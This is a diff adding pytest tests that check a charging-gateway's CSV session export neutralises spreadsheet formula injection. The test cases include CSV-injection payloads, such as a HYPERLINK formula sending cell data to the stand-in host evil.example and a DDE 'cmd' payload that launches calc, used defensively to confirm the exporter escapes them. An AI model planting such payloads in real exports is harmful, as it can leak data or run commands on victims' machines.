@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import csv
 import uuid
 from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
@@ -13,10 +14,11 @@ import pytest
 from sqlalchemy import text
 from sqlmodel import Session, select
 
+from services.gateway.sessions_export import neutralised, sessions_csv
 from services.gateway.statistics import Figures, compute_statistics, publish_statistics
 from shared.bus import Bus
 from shared.config import Config
-from shared.db import ChargerStatusLog, CommandLog, make_engine
+from shared.db import ChargerStatusLog, ChargingSession, CommandLog, make_engine
 from shared.messages import ChargerStatusChanged, ChargeStatus, CommandApplied, CommandReason, SessionEvent
 from shared.state import StatisticsPeriod
 from tests.gateway.conftest import publish_complete_tree, running_gateway
@@ -293,3 +295,45 @@ async def test_events_wait_for_an_unavailable_database(tmp_path: Path, probe: Pr
         assert [r.charged_kwh for r in session.exec(select(ChargingSession)).all()] == [4.0]
     await writer.close()
     engine.dispose()
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        (
+            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+            '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        ),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-12.5", "-12.5"),  # a negative number stays a number
+        ("+3", "+3"),
+        ("- 3", "'- 3"),
+        ("e-Golf", "e-Golf"),
+        ("", ""),
+    ],
+)
+def test_csv_cells_never_start_a_formula(text: str, cell: str) -> None:
+    assert neutralised(text) == cell
+
+
+def test_csv_export_neutralises_the_vehicle_and_keeps_negative_numbers() -> None:
+    row = ChargingSession(
+        session_uid="x",
+        created=datetime(2025, 4, 1, 8, 0),
+        finished=datetime(2025, 4, 1, 9, 0),
+        loadpoint="@Garage",
+        vehicle='=HYPERLINK("http://evil.example","x")',
+        charged_kwh=5.0,
+        price=-1.25,
+        charge_duration=0,
+    )
+    lines = sessions_csv([row], "en", UTC).splitlines()
+    cells = next(csv.reader([lines[1]]))
+    header = next(csv.reader([lines[0].lstrip("\ufeff")]))
+    assert cells[header.index("Vehicle")] == '\'=HYPERLINK("http://evil.example","x")'
+    assert cells[header.index("Charging point")] == "'@Garage"
+    assert cells[header.index("Cost")] == "-1.25"
